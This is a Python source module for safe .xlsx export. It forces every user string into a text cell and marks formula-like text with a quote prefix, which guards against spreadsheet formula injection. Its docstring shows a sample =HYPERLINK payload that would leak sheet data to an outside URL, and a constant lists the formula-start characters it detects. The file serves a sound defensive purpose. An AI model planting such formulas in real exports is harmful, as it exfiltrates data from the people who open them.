"""The one way the system writes an .xlsx file: every string is written as text, never as a formula.

Names, organization names, notes and every other text a user typed can start with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return (or their full-width forms, which some spreadsheet programs
fold to ASCII). openpyxl stores any string starting with ``=`` as a formula, so a member named
``=HYPERLINK("http://…?x="&A1,"点我")`` would become a live link that leaks the sheet when clicked
(spreadsheet formula injection). Every export builds its workbook as it likes and hands it to
:func:`workbook_bytes`, which turns every formula cell back into a text cell and marks text that
looks like a formula with the quote prefix (Excel's leading apostrophe), so that even editing the
cell later keeps it text. No export needs a formula: totals are computed in Python.
"""

from __future__ import annotations

import io
from typing import Any

from openpyxl import Workbook

# The characters that make a spreadsheet program read a typed cell as a formula or a command
# (OWASP "CSV injection"), with their full-width forms.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def as_text(cell: Any) -> None:
    """Make ``cell`` a text cell if it holds a string; formula-like text gets the quote prefix."""
    value = cell.value
    if not isinstance(value, str):
        return
    cell.data_type = "s"
    if value.startswith(FORMULA_STARTS):
        cell.quotePrefix = True


def neutralize(workbook: Workbook) -> Workbook:
    """Every string cell of every sheet of ``workbook`` as text (in place; returns the workbook)."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                as_text(cell)
    return workbook


def workbook_bytes(workbook: Workbook) -> bytes:
    """``workbook`` as .xlsx bytes, with user text neutralized (see the module docstring)."""
    neutralize(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
